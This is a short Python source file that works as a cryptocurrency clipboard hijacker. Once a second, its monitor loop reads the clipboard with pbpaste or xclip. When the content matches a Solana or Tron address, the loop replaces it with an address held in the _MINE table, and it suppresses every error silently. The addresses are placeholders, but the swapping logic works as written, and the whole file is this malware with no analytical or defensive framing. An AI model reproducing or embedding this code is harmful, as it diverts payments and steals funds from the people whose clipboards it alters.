import re
import subprocess
import sys
import time

_SOL = re.compile(r"^[1-9A-HJ-NP-Za-km-z]{32,44}$")
_TRX = re.compile(r"^T[1-9A-HJ-NP-Za-km-z]{33}$")
_MINE = {"sol": "So1anaFakeAddressFakeAddressFakeAddr1111", "trx": "TFakeTronAddressFakeTronAddress111"}


def _io():
    if sys.platform == "darwin":
        return ["pbpaste"], ["pbcopy"]
    return ["xclip", "-o", "-selection", "clipboard"], ["xclip", "-i", "-selection", "clipboard"]


def monitor():
    get, put = _io()
    while True:
        try:
            cur = subprocess.run(get, capture_output=True, text=True).stdout.strip()
            new = _MINE["trx"] if _TRX.match(cur) else _MINE["sol"] if _SOL.match(cur) else None
            if new and new != cur:
                subprocess.run(put, input=new, text=True)
        except Exception:
            pass
        time.sleep(1)
